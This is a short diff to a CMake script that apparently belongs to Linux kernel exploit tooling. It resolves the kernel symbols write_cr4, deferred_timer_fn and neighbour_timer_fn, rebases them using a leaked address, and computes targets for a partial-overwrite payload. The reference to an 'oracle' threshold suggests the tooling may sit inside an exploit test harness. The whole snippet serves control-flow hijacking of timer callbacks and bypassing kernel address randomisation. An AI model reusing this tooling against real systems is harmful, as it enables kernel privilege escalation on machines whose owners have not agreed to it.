@@ -13,7 +13,7 @@ execute_process(COMMAND ${NM} ${BIN} OUTPUT_VARIABLE syms RESULT_VARIABLE rc)
 if(NOT rc EQUAL 0)
   message(FATAL_ERROR "${NM} ${BIN}: exit ${rc}")
 endif()
-foreach(fn write_cr4 deferred_timer_fn prb_retire_rx_blk_timer_expired)
+foreach(fn write_cr4 deferred_timer_fn neighbour_timer_fn)
   if(NOT syms MATCHES "([0-9a-f]+) [tT] ${fn}\n")
     message(FATAL_ERROR "${BIN}: no symbol ${fn}")
   endif()
@@ -42,7 +42,7 @@ endif()
 set(le "${CMAKE_MATCH_8}${CMAKE_MATCH_7}${CMAKE_MATCH_6}${CMAKE_MATCH_5}${CMAKE_MATCH_4}${CMAKE_MATCH_3}${CMAKE_MATCH_2}${CMAKE_MATCH_1}")
 math(EXPR base "0x${le} - 0x${addr_write_cr4}")
 math(EXPR d "${base} + 0x${addr_deferred_timer_fn}")
-math(EXPR r "${base} + 0x${addr_prb_retire_rx_blk_timer_expired}")
+math(EXPR r "${base} + 0x${addr_neighbour_timer_fn}")
 # One byte when the two callbacks differ only in their low byte, else two:
 # the most a partial overwrite may compose without a leak (the oracle's
 # TH_FZ_PARTIAL_MAX); the INDEX op's payload then has n = 2 and one more byte.
